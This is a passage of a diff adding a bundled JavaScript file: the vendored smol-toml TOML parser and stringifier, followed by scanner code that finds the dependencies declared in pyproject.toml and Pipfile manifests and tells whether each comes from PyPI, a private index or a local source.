+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function skipComment(ctx) {
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        let c = ctx.s.charCodeAt(ctx.p);
+        if (c === 0xa /* \n */)
+            break;
+        if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */) {
+            ctx.p++;
+            break;
+        }
+        if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in comments', ctx);
+        }
+    }
+}
+/** @internal */
+function skipVoid(ctx, banNewLines, banComments) {
+    let c;
+    while (ctx.p < ctx.s.length) {
+        while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 0x20 ||
+            c === 0x9 /* \t */ ||
+            (!banNewLines &&
+                (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)))))
+            ctx.p++;
+        if (banComments || c !== 0x23 /* # */)
+            break;
+        skipComment(ctx);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/struct.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+/** @internal */
+function parseKey(ctx, end = 0x3d /* = */) {
+    // States:
+    // 0: before first char
+    // 1: parsing bare key
+    // 2: after key component
+    let startPtr;
+    let state = 0;
+    let parsed = [];
+    let sliceStart;
+    let c = ctx.s.charCodeAt(startPtr = ctx.p);
+    do {
+        // End of key
+        if (c === end) {
+            if (!state)
+                TomlError.x('unexpected end of key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            return ctx.p++, parsed;
+        }
+        // Dotted key separator
+        else if (c === 0x2e /* . */) {
+            if (!state)
+                TomlError.x('illegal empty bare key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            state = 0;
+        }
+        // Quoted key
+        else if (!state && (c === 0x22 /* " */ || c === 0x27 /* ' */)) {
+            if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
+                TomlError.x('illegal quoted key: multiline strings are not allowed', ctx);
+            parsed.push(parseString(ctx));
+            state = 2;
+            ctx.p--;
+        }
+        // Whitespace; no-op in state 0 and 2, end of bare key in state 1
+        else if (c === 0x20 || c === 0x9 /* \t */) {
+            if (state === 1) {
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+                state = 2;
+            }
+        }
+        // If state is post-key, no character is allowed; otherwise ensure it's a bare-key component
+        else if (state === 2 || (c < 0x30 && c !== 0x2d /* - */) || (c > 0x39 && c < 0x41) || (c > 0x5a && c < 0x61 && c !== 0x5f /* _ */) || c > 0x7a) {
+            TomlError.x('illegal character in key', ctx);
+        }
+        // Illegal character
+        else if (!state) {
+            state = 1;
+            sliceStart = ctx.p;
+        }
+    } while (c = ctx.s.charCodeAt(++ctx.p));
+    TomlError.x('incomplete key-value: cannot find end of key', ctx, startPtr);
+}
+/** @internal */
+function parseInlineTable(ctx) {
+    let startPtr = ctx.p++;
+    let res = Object.create(null);
+    let seen = new Set();
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x7d /* } */) {
+            ctx.p++;
+            return res;
+        }
+        let k;
+        let t = res;
+        let hasOwn = false;
+        let errPtr = ctx.p;
+        let key = parseKey(ctx);
+        for (let i = 0; i < key.length; i++) {
+            if (i)
+                t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            k = key[i];
+            if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== 'object' || seen.has(t[k]))) {
+                TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+            }
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor')) {
+                t = ctx.uk !== 1 && TomlError.x('document contains an unsafe property', ctx, errPtr);
+                break;
+            }
+            if (!hasOwn && unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+            }
+        }
+        if (hasOwn) {
+            TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+        }
+        skipVoid(ctx, true, true);
+        let value = extractValue(ctx, 0x7d /* } */);
+        if (t && typeof (t[k] = value) === 'object')
+            seen.add(value);
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x7d /* } */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished table', ctx, startPtr);
+}
+/** @internal */
+function parseArray(ctx) {
+    let startPtr = ctx.p++;
+    let res = [];
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x5d /* ] */) {
+            ctx.p++;
+            return res;
+        }
+        res.push(extractValue(ctx, 0x5d /* ] */));
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x5d /* ] */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished array', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/parse.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function peekTable(ctx, key, table, meta, type) {
+    let t = table;
+    let m = meta;
+    let k;
+    let hasOwn = false;
+    let state;
+    for (let i = 0; i < key.length; i++) {
+        if (i) {
+            t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            m = (state = m[k]).c;
+            if (type === 0 /* Type.DOTTED */ && (state.t === 1 /* Type.EXPLICIT */ || state.t === 2 /* Type.ARRAY */)) {
+                return null;
+            }
+            if (state.t === 2 /* Type.ARRAY */) {
+                let l = t.length - 1;
+                t = t[l];
+                m = m[l].c;
+            }
+        }
+        k = key[i];
+        if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 /* Type.DOTTED */ && m[k]?.d) {
+            return null;
+        }
+        if (!hasOwn) {
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor'))
+                return false;
+            if (unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+                Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
+            }
+            m[k] = {
+                t: i < key.length - 1 && type === 2 /* Type.ARRAY */
+                    ? 3 /* Type.ARRAY_DOTTED */ : type,
+                d: false,
+                i: 0,
+                c: Object.create(null),
+            };
+        }
+    }
+    state = m[k];
+    if (state.t !== type && !(type === 1 /* Type.EXPLICIT */ && state.t === 3 /* Type.ARRAY_DOTTED */)) {
+        // Bad key type!
+        return null;
+    }
+    if (type === 2 /* Type.ARRAY */) {
+        if (!state.d) {
+            state.d = true;
+            t[k] = [];
+        }
+        t[k].push(t = Object.create(null));
+        state.c[state.i++] = (state = { t: 1 /* Type.EXPLICIT */, d: false, i: 0, c: Object.create(null) });
+    }
+    if (state.d) {
+        // Redefining a table!
+        return null;
+    }
+    state.d = true;
+    if (type === 1 /* Type.EXPLICIT */) {
+        t = hasOwn ? t[k] : (t[k] = Object.create(null));
+    }
+    else if (type === 0 /* Type.DOTTED */ && hasOwn) {
+        return null;
+    }
+    return [k, t, state.c];
+}
+function validateTablePeek(ctx, peek, ptr) {
+    if (peek === null || ctx.uk === 2)
+        TomlError.x(peek === null
+            ? 'trying to redefine an already defined table or value'
+            : 'document contains an unsafe property', ctx, ptr);
+}
+function parse(toml, options = {}) {
+    let ctx = {
+        s: toml,
+        p: 0,
+        d: options.maxDepth ?? 1000,
+        bi: options.integersAsBigInt ?? false,
+        ld: options.useLegacyDate ?? true,
+        uk: options.unsafeKeyBehaviour === 'throw' ? 2 : options.unsafeKeyBehaviour === 'drop' ? 1 : 0,
+    };
+    let res = Object.create(null);
+    let meta = Object.create(null);
+    let tmp;
+    let skipping = false;
+    let tbl = res;
+    let m = meta;
+    // BOM is allowed, skip.
+    // JS is UTF-16, so we have to check for the UTF-16 BOM instead of the UTF-8 BOM sequence!
+    if (toml.charCodeAt(0) === 0xfeff)
+        ctx.p++;
+    skipVoid(ctx);
+    while (ctx.p < toml.length) {
+        if (toml.charCodeAt(ctx.p) === 0x5b /* [ */) {
+            let isTableArray = toml.charCodeAt(++ctx.p) === 0x5b; /* [ */
+            tmp = ctx.p += +isTableArray;
+            skipping = false;
+            let k = parseKey(ctx, 0x5d /* ] */);
+            if (isTableArray) {
+                if (toml.charCodeAt(ctx.p) !== 0x5d /* ] */) {
+                    TomlError.x('expected end of table array declaration', ctx);
+                }
+                ctx.p++;
+            }
+            let p = peekTable(ctx, k, res, meta, isTableArray ? 2 /* Type.ARRAY */ : 1 /* Type.EXPLICIT */);
+            if (!p) {
+                validateTablePeek(ctx, p, tmp);
+                skipping = true;
+            }
+            else {
+                m = p[2];
+                tbl = p[1];
+            }
+        }
+        else {
+            tmp = ctx.p;
+            let k = parseKey(ctx);
+            let p = peekTable(ctx, k, tbl, m, 0 /* Type.DOTTED */);
+            if (!p && !skipping)
+                validateTablePeek(ctx, p, tmp);
+            skipVoid(ctx, true, true);
+            let v = extractValue(ctx, void 0);
+            if (p && !skipping)
+                p[1][p[0]] = v;
+        }
+        skipVoid(ctx, true);
+        if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 0xa /* \n */ && (tmp !== 0xd /* \r */ || toml.charCodeAt(ctx.p + 1) !== 0xa /* \n */)) {
+            TomlError.x('each key-value declaration must be followed by an end-of-line', ctx);
+        }
+        skipVoid(ctx);
+    }
+    return res;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/stringify.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let BARE_KEY = /^[a-z0-9-_]+$/i;
+let HAS_WELLFORMED = !!(''.isWellFormed);
+function extendedTypeOf(obj) {
+    let type = typeof obj;
+    if (type === 'object') {
+        if (Array.isArray(obj))
+            return 'array';
+        if (typeof obj.getUTCDate === 'function' && obj instanceof Date)
+            return 'date';
+        if (globalThis.Temporal) {
+            if (obj.until) {
+                if (obj instanceof Temporal.ZonedDateTime)
+                    return 'temporal/tz+uc';
+                if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate)
+                    return 'temporal/uc';
+                if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant)
+                    return 'temporal';
+                if (obj instanceof Temporal.PlainYearMonth)
+                    return 'temporal/x';
+            }
+            else if ((obj.toPlainDate && obj instanceof Temporal.PlainMonthDay) ||
+                (obj.negated && obj instanceof Temporal.Duration)) {
+                return 'temporal/x';
+            }
+        }
+    }
+    return type;
+}
+function isArrayOfTables(obj) {
+    for (let i = 0; i < obj.length; i++) {
+        if (extendedTypeOf(obj[i]) !== 'object')
+            return false;
+    }
+    return obj.length != 0;
+}
+function formatWellFormedStringUnchecked(s) {
+    return JSON.stringify(s).replaceAll('\x7f', '\\u007f');
+}
+function formatString(s) {
+    return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
+}
+function formatKey(s) {
+    if (BARE_KEY.test(s))
+        return s;
+    if (HAS_WELLFORMED && !s.isWellFormed())
+        throw new RangeError('key contains illegal lone surrogates');
+    return formatWellFormedStringUnchecked(s);
+}
+function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    switch (type) {
+        // @ts-expect-error -- intentional fallthrough case
+        case 'number':
+            if (isNaN(val))
+                return 'nan';
+            if (val === Infinity)
+                return 'inf';
+            if (val === -Infinity)
+                return '-inf';
+            if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val)))
+                return val.toFixed(1);
+        case 'bigint':
+        case 'boolean':
+        case 'temporal':
+            return val.toString();
+        case 'string':
+            return formatString(val);
+        case 'date':
+            if (isNaN(val.getTime()))
+                throw new TypeError('cannot serialize invalid date');
+            return val.toISOString();
+        case 'object':
+            return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
+        case 'array':
+            return stringifyArray(val, depth, numberAsFloat, strictTemporal);
+        // @ts-expect-error -- intentional fallthrough case
+        case 'temporal/tz+uc':
+            if (strictTemporal) {
+                let tz = val.timeZoneId;
+                let tzc = tz.charCodeAt(0);
+                if (
+                // Classic offset
+                tzc !== 0x2b /* + */ && tzc !== 0x2d /* - */ &&
+                    (
+                    // Fast pre-check pass; see below for the actually accepted values
+                    (tzc !== 0x55 /* U */ && tzc !== 0x47 /* G */ && tzc !== 0x5a /* Z */ && tzc !== 0x45 /* E */) ||
+                        (
+                        // UTC and its aliases; Temporal implementations don't all canonicalise unfortunately
+                        tz !== 'UTC' && tz !== 'UCT' && tz !== 'Universal' && tz !== 'Zulu' &&
+                            // GMT is a TZ but it's for all intents and purposes equivalent to UTC. Safe to downgrade.
+                            !tz.startsWith('GMT') && tz !== 'Greenwich' &&
+                            // Etc/* are all safe to downgrade to offset (either UTC, GMT, or offset)
+                            !tz.startsWith('Etc/')))) {
+                    throw new TypeError('Temporal objects with an IANA timezone are not allowed in Temporal strict mode');
+                }
+            }
+        case 'temporal/uc':
+            if (strictTemporal && val.calendarId !== 'iso8601')
+                throw new TypeError('Temporal objects with a non-default calendar are not allowed in Temporal strict mode');
+            return val.toString({
+                calendarName: 'never',
+                timeZoneName: 'never',
+            });
+        case 'temporal/x':
+            throw new TypeError('Unsupported ' + val[Symbol.toStringTag]);
+    }
+}
+function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
+    let keys = Object.keys(obj);
+    if (keys.length === 0)
+        return '{}';
+    let res = '{ ';
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (i)
+            res += ', ';
+        res += formatKey(k) + ' = ' + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' }';
+}
+function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
+    if (array.length === 0)
+        return '[]';
+    let res = '[ ';
+    for (let i = 0; i < array.length; i++) {
+        if (i)
+            res += ', ';
+        if (array[i] === null || array[i] === void 0) {
+            throw new TypeError('arrays cannot contain null or undefined values');
+        }
+        res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' ]';
+}
+function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let res = '';
+    for (let i = 0; i < array.length; i++) {
+        res += `${res && '\n'}[[${key}]]\n`;
+        res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
+    }
+    return res;
+}
+function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let preamble = '';
+    let tables = '';
+    let keys = Object.keys(obj);
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (obj[k] !== null && obj[k] !== void 0) {
+            let type = extendedTypeOf(obj[k]);
+            if (type === 'symbol' || type === 'function') {
+                throw new TypeError(`cannot serialize values of type '${type}'`);
+            }
+            let key = formatKey(k);
+            if (type === 'array' && isArrayOfTables(obj[k])) {
+                tables += (tables && '\n') + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else if (type === 'object') {
+                let tblKey = prefix ? `${prefix}.${key}` : key;
+                tables += (tables && '\n') + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else {
+                preamble += key;
+                preamble += ' = ';
+                preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
+                preamble += '\n';
+            }
+        }
+    }
+    if (tableKey && (preamble || !tables)) // Create table only if necessary
+        preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
+    return preamble && tables
+        ? `${preamble}\n${tables}`
+        : preamble || tables;
+}
+function stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTemporal = false } = {}) {
+    if (extendedTypeOf(obj) !== 'object') {
+        throw new TypeError('stringify can only be called with an object');
+    }
+    let str = stringifyTable(0, obj, '', maxDepth, numbersAsFloat, strictTemporal);
+    if (str[str.length - 1] !== '\n')
+        return str + '\n';
+    return str;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/index.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+
+/** @deprecated use `import * as ... from 'smol-toml'` instead */
+/* harmony default export */ const smol_toml_dist = ({ parse: parse, stringify: stringify, TomlDate: TomlDate, TomlError: TomlError });
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/toml-values.ts
+
+function isTable(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value) && !(value instanceof Date);
+}
+/** The table at a dotted path, or undefined when any step is missing or not a table. */
+function tableAt(root, path) {
+    let current = root;
+    for (const step of path) {
+        if (!isTable(current))
+            return undefined;
+        current = current[step];
+    }
+    return isTable(current) ? current : undefined;
+}
+function stringsOf(value) {
+    return Array.isArray(value) ? value.filter((item) => typeof item === 'string') : [];
+}
+/** Parses a TOML manifest; a file that does not parse becomes a note naming the line, never a crash. */
+function parseToml(path, text) {
+    try {
+        return { kind: 'parsed', root: parse(text) };
+    }
+    catch (thrown) {
+        const where = thrown instanceof TomlError ? ` (line ${thrown.line}, column ${thrown.column})` : '';
+        return { kind: 'note', note: { path, message: `${path} was not checked: it is not valid TOML${where}` } };
+    }
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/pyproject.ts
+
+
+
+
+const PYPI_URL = /^https?:\/\/(?:pypi\.org|pypi\.python\.org|files\.pythonhosted\.org)(?:[/:]|$)/i;
+/** Keys of a Poetry or uv dependency table that mean "not from a package index". */
+const LOCAL_KEYS = ['git', 'path', 'url', 'file', 'workspace'];
+/** Sources that leave PyPI the default: https://python-poetry.org/docs/repositories/#package-sources */
+const NON_DEFAULT_PRIORITIES = ['supplemental', 'explicit', 'secondary'];
+function declare(context, name, offset, source) {
+    return {
+        ecosystem: 'pypi',
+        name,
+        registryName: name,
+        source,
+        path: context.path,
+        region: context.lines.region(offset, name.length),
+    };
+}
+/** PEP 508 strings in an array under `key` of `table`, located one after the other. */
+function requirementArray(context, table, key, value) {
+    const found = [];
+    let cursor = 0;
+    for (const text of stringsOf(value)) {
+        const requirement = parseRequirement(text);
+        if (requirement === undefined)
+            continue;
+        const at = context.locate.stringValue(table, key, text, cursor);
+        if (at !== undefined)
+            cursor = at + text.length;
+        const offset = at === undefined ? context.locate.key(table, key) : at + requirement.offset;
+        found.push(declare(context, requirement.name, offset, requirement.source));
+    }
+    return found;
+}
+/** PEP 621 `[project]`, PEP 735 `[dependency-groups]`, PDM's dev groups and the build requirements. */
+function standardDeclarations(root, context) {
+    const found = requirementArray(context, ['project'], 'dependencies', tableAt(root, ['project'])?.['dependencies']);
+    found.push(...requirementArray(context, ['build-system'], 'requires', tableAt(root, ['build-system'])?.['requires']));
+    const groups = [
+        ['project', 'optional-dependencies'],
+        ['dependency-groups'],
+        ['tool', 'pdm', 'dev-dependencies'],
+    ];
+    for (const path of groups) {
+        for (const [group, list] of Object.entries(tableAt(root, path) ?? {})) {
+            found.push(...requirementArray(context, path, group, list));
+        }
+    }
+    return found;
+}
+function sourceOfTable(spec) {
+    const tables = (Array.isArray(spec) ? spec : [spec]).filter(isTable);
+    if (tables.some((table) => LOCAL_KEYS.some((key) => key in table)))
+        return 'local';
+    const index = tables.map((table) => table['source'] ?? table['index']).find((value) => value !== undefined);
+    return index === undefined || index === 'pypi' ? 'registry' : 'private-index';
+}
+function isPrivateDefault(source) {
+    if (!isTable(source))
+        return false;
+    const url = source['url'];
+    if (typeof url === 'string' && PYPI_URL.test(url))
+        return false;
+    if (source['default'] === true)
+        return true;
+    const priority = source['priority'];
+    if (typeof priority === 'string')
+        return !NON_DEFAULT_PRIORITIES.includes(priority);
+    return source['secondary'] !== true;
+}
+/** `[tool.poetry.dependencies]`, the legacy dev table and every `[tool.poetry.group.<g>.dependencies]`. */
+function poetryDeclarations(root, context) {
+    const sources = tableAt(root, ['tool', 'poetry'])?.['source'];
+    const privateDefault = Array.isArray(sources) && sources.some(isPrivateDefault);
+    const tables = [
+        ['tool', 'poetry', 'dependencies'],
+        ['tool', 'poetry', 'dev-dependencies'],
+    ];
+    for (const group of Object.keys(tableAt(root, ['tool', 'poetry', 'group']) ?? {})) {
+        tables.push(['tool', 'poetry', 'group', group, 'dependencies']);
+    }
+    return tables.flatMap((path) => Object.entries(tableAt(root, path) ?? {})
+        .filter(([name]) => name.toLowerCase() !== 'python' && PYPI_NAME.test(name))
+        .map(([name, spec]) => {
+        const source = typeof spec === 'string' ? 'registry' : sourceOfTable(spec);
+        const offset = context.locate.key(path, name);
+        return declare(context, name, offset, source === 'registry' && privateDefault ? 'private-index' : source);
+    }));
+}
+/** uv's per-package sources and a default index other than PyPI override where packages come from. */
+function applyUvSources(root, declarations) {
+    const sources = new Map(Object.entries(tableAt(root, ['tool', 'uv', 'sources']) ?? {}).map(([name, spec]) => [
+        normalizePypiName(name),
+        sourceOfTable(spec),
+    ]));
+    const indexes = tableAt(root, ['tool', 'uv'])?.['index'];
+    const privateDefault = Array.isArray(indexes) &&
+        indexes.some((index) => isTable(index) && index['default'] === true && isPrivateDefault(index));
+    return declarations.map((declaration) => {
+        if (declaration.source !== 'registry')
+            return declaration;
+        const override = sources.get(normalizePypiName(declaration.name));
+        const source = override ?? (privateDefault ? 'private-index' : 'registry');
+        return source === 'registry' ? declaration : { ...declaration, source };
+    });
+}
+/** The dependencies a pyproject.toml declares, in the PEP 621, PEP 735, Poetry, PDM and uv layouts. */
+function parsePyproject(path, text) {
+    const parsed = parseToml(path, text);
+    if (parsed.kind === 'note')
+        return { declarations: [], notes: [parsed.note] };
+    const context = { path, lines: new LineIndex(text), locate: new TomlLocator(text) };
+    const standard = applyUvSources(parsed.root, standardDeclarations(parsed.root, context));
+    return { declarations: [...standard, ...poetryDeclarations(parsed.root, context)], notes: [] };
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/dependencies/pipfile.ts
+
+
+
+
+/** Pipfile tables that are not package categories (https://pipenv.pypa.io/en/latest/pipfile.html). */
+const NOT_CATEGORIES = new Set(['source', 'requires', 'scripts', 'pipenv']);
+const pipfile_LOCAL_KEYS = ['git', 'path', 'file', 'hg', 'svn', 'bzr'];
+function sourcesOf(root) {
+    const entries = Array.isArray(root['source']) ? root['source'].filter(isTable) : [];
+    const isPypi = (entry) => typeof entry['url'] === 'string' && PYPI_URL.test(entry['url']);
+    const pypi = new Set(entries.filter(isPypi).flatMap((entry) => (typeof entry['name'] === 'string' ? [entry['name']] : [])));
